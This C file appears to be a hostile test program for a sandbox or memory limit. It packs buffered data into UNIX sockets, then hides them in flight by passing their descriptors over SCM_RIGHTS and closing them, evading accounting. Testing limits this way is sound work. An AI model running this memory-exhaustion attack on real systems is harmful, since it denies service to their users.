// Keeps sockets full of data in other sockets, where no process has a descriptor of them.
#include "hostile.h"

static int send_away(int by, int what) {
    char space[CMSG_SPACE(sizeof(int))] = {0}, byte = 'x';
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &what, sizeof what);
    return sendmsg(by, &message, MSG_DONTWAIT) == 1;
}

static void attack(void) {
    static char bytes[1 << 15];
    unsigned long sent = 0;
    int carriers[16][2];
    for (int number = 0; number < 16; number++) {
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, carriers[number]) != 0) return;
    }
    for (int number = 0; number < 8000; number++) {
        int pair[2];
        ssize_t length;
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) != 0) break;
        unsigned long own = 0;
        while ((length = write(pair[0], bytes, sizeof bytes)) > 0) own += (unsigned long)length;
        if (send_away(carriers[number % 16][0], pair[1])) sent += own;
        close(pair[0]);
        close(pair[1]);
    }
    if (sent > 1UL << 30) wait_for_the_limit();
}
